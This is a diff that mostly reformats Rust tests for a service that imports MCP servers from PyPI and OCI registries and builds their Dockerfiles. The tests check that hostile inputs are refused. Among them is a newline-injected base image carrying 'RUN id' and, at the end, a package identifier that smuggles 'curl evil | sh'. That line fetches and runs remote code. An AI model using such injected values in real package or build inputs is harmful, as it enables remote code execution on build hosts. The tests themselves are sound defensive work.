@@ -74,9 +74,18 @@ async fn a_pypi_import_is_verified_by_building_its_generated_dockerfile() {
     assert_eq!(server.state, VerificationState::Verified);
     let requests = h.builder.requests();
     assert_eq!(requests.len(), 1);
-    let dockerfile = requests[0].dockerfile.as_deref().expect("a generated Dockerfile");
-    assert!(dockerfile.contains("'mcp-server-time==2026.10.19'"), "{dockerfile}");
-    assert!(dockerfile.contains("FROM python:3.12-slim\n"), "{dockerfile}");
+    let dockerfile = requests[0]
+        .dockerfile
+        .as_deref()
+        .expect("a generated Dockerfile");
+    assert!(
+        dockerfile.contains("'mcp-server-time==2026.10.19'"),
+        "{dockerfile}"
+    );
+    assert!(
+        dockerfile.contains("FROM python:3.12-slim\n"),
+        "{dockerfile}"
+    );
     // The package pin stands for the commit: the image is recorded against it.
     let pin = server.origin.fingerprint().unwrap();
     assert_eq!(server.image.as_ref().unwrap().commit, pin);
@@ -117,7 +126,10 @@ async fn the_deployments_base_image_and_index_shape_the_build() {
     assert!(dockerfile.contains("FROM toolshed-test/python:3.11-bookworm\n"));
     assert!(dockerfile.contains("PIP_INDEX_URL=\"https://pypi.internal.example/simple/\""));
     assert!(dockerfile.contains("COPY ca-certificates.crt"));
-    for bad in ["https://user:pw@pypi.example/simple", "http://pypi.example/simple"] {
+    for bad in [
+        "https://user:pw@pypi.example/simple",
+        "http://pypi.example/simple",
+    ] {
         let err = toolshed_core::services::package_build_from(|name| {
             (name == "TOOLSHED_PIP_INDEX_URL").then(|| bad.to_owned())
         })
@@ -128,7 +140,10 @@ async fn the_deployments_base_image_and_index_shape_the_build() {
         (name == "TOOLSHED_PYTHON_BASE_IMAGE").then(|| "python\nRUN id".to_owned())
     })
     .unwrap_err();
-    assert!(err.to_string().contains("TOOLSHED_PYTHON_BASE_IMAGE"), "{err}");
+    assert!(
+        err.to_string().contains("TOOLSHED_PYTHON_BASE_IMAGE"),
+        "{err}"
+    );
 }
 
 #[tokio::test]
@@ -203,7 +218,10 @@ async fn an_oci_import_runs_the_published_image_by_digest_without_a_build() {
         .unwrap();
     let server = outcome.server().clone();
     assert_eq!(server.state, VerificationState::Verified);
-    assert!(h.builder.requests().is_empty(), "no build for a published image");
+    assert!(
+        h.builder.requests().is_empty(),
+        "no build for a published image"
+    );
     let image = &server.image.as_ref().unwrap().image;
     assert_eq!(image.pinned(), format!("ghcr.io/example/time@{digest}"));
     // The check task ran that very digest.
@@ -265,13 +283,18 @@ async fn refused_documents_register_nothing() {
     assert!(matches!(&err, Error::InvalidInput { .. }), "{err:?}");
     assert!(err.to_string().contains("2025-07-09"), "{err}");
 
-    let remote = document(json!({"remotes": [{"type": "streamable-http", "url": "https://mcp.example.com/mcp"}]}));
+    let remote = document(
+        json!({"remotes": [{"type": "streamable-http", "url": "https://mcp.example.com/mcp"}]}),
+    );
     let err = h
         .toolshed
         .import_server(&remote, ImportOptions::default())
         .await
         .unwrap_err();
-    assert!(err.to_string().contains("remotes are not imported"), "{err}");
+    assert!(
+        err.to_string().contains("remotes are not imported"),
+        "{err}"
+    );
 
     let hostile = document(json!({"packages": [{
         "registryType": "pypi", "identifier": "mcp-server-time; curl evil | sh", "version": "1.0.0",
